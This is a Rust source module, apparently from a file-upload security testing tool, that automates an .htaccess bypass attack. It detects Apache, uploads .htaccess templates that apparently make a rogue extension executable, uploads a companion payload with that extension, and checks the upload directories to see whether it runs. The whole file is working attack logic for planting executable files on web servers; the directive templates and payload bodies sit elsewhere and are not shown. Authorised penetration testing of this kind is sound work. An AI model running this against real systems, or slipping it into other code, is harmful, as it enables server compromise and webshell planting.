use async_trait::async_trait;
use tracing::{debug, info};

use super::context::ScenarioContext;
use super::summary::ScenarioSummary;
use super::verify::{attempt_upload, report_hits};
use super::{Scenario, ScenarioKind};
use crate::classify::{ExecutionRules, UploadRules};
use crate::discovery::engine::{join_dir, parse_base};
use crate::errors::Migr8Error;
use crate::payloads::bypasses::{HtaccessTemplate, EXECUTION_CHECK_DIRS, HTACCESS_DETECTION_DIRS, HTACCESS_TEMPLATES};
use crate::payloads::Payload;
use crate::probe::UploadRequest;

const COMPANION_STEM: &str = "payload";

/// HEAD a few likely directories and report whether any answers as Apache.
async fn detect_htaccess_support(ctx: &ScenarioContext) -> Result<bool, Migr8Error> {
    let base = parse_base(ctx.base_url())?;
    for dir in HTACCESS_DETECTION_DIRS {
        let Some(url) = join_dir(&base, dir) else { continue };
        match ctx.client.head(url.as_str()).await {
            Ok(response) => {
                let server = response.header("server").unwrap_or("");
                if server.to_lowercase().contains("apache") {
                    info!(url = %url, server, "Apache detected, .htaccess likely honored");
                    return Ok(true);
                }
            }
            Err(e) => debug!(url = %url, error = %e, "Detection probe failed"),
        }
    }
    Ok(false)
}

pub struct HtaccessScenario;

impl HtaccessScenario {
    async fn run_template(
        &self,
        ctx: &ScenarioContext,
        template: &HtaccessTemplate,
        companion: &Payload,
        field: &str,
        summary: &mut ScenarioSummary,
    ) -> Result<(), Migr8Error> {
        let probe = ctx.upload_probe(UploadRules::htaccess());

        let htaccess = UploadRequest {
            filename: ctx.names.unique(".htaccess"),
            original_filename: ".htaccess".to_string(),
            content: template.directives.as_bytes().to_vec(),
            content_type: Some("text/plain".to_string()),
            field_name: field.to_string(),
        };
        let technique = format!(".htaccess {}", template.name);
        let accepted = attempt_upload(ctx, &probe, &technique, &htaccess, summary)
            .await?
            .is_some_and(|r| r.success);
        if !accepted {
            return Ok(());
        }

        ctx.pace().await;
        let companion_request = UploadRequest {
            filename: ctx.names.unique_with_extension(COMPANION_STEM, template.rogue_extension),
            original_filename: companion.name.clone(),
            content: companion.content.clone(),
            content_type: Some("text/plain".to_string()),
            field_name: field.to_string(),
        };
        let companion_technique = format!("{} companion {}", technique, template.rogue_extension);
        let Some(result) = attempt_upload(ctx, &probe, &companion_technique, &companion_request, summary).await? else {
            return Ok(());
        };
        if !result.success || ctx.is_cancelled() {
            return Ok(());
        }

        let engine = ctx.engine(ExecutionRules::default());
        let directories = ctx.upload_dirs(EXECUTION_CHECK_DIRS);
        let hits = engine
            .find_files(ctx.base_url(), &directories, std::slice::from_ref(&result.filename))
            .await?;
        report_hits(ctx, &hits);
        summary.record_hits(&companion_technique, &hits);
        Ok(())
    }
}

#[async_trait]
impl Scenario for HtaccessScenario {
    fn kind(&self) -> ScenarioKind {
        ScenarioKind::Htaccess
    }

    async fn run(&self, ctx: &ScenarioContext) -> Result<ScenarioSummary, Migr8Error> {
        let endpoint = ctx.upload_endpoint()?;
        let companion = ctx.payload_or(Payload::htaccess_companion()).await?;
        let mut summary = ScenarioSummary::new(self.kind().as_str());

        info!(endpoint, templates = HTACCESS_TEMPLATES.len(), "Starting .htaccess bypass testing");

        ctx.reporter.section(".htaccess support detection");
        if detect_htaccess_support(ctx).await? {
            ctx.reporter.success("Apache server detected, .htaccess overrides may be honored");
        } else {
            ctx.reporter.warning("No Apache server header seen, testing anyway");
        }

        ctx.reporter.section(".htaccess templates");
        let field = ctx.field_for(endpoint).await;

        for (i, template) in HTACCESS_TEMPLATES.iter().enumerate() {
            if ctx.is_cancelled() {
                summary.interrupted = true;
                return Ok(summary);
            }
            if i > 0 {
                ctx.pace().await;
            }
            self.run_template(ctx, template, &companion, &field, &mut summary).await?;
        }

        summary.interrupted |= ctx.is_cancelled();
        Ok(summary)
    }
}
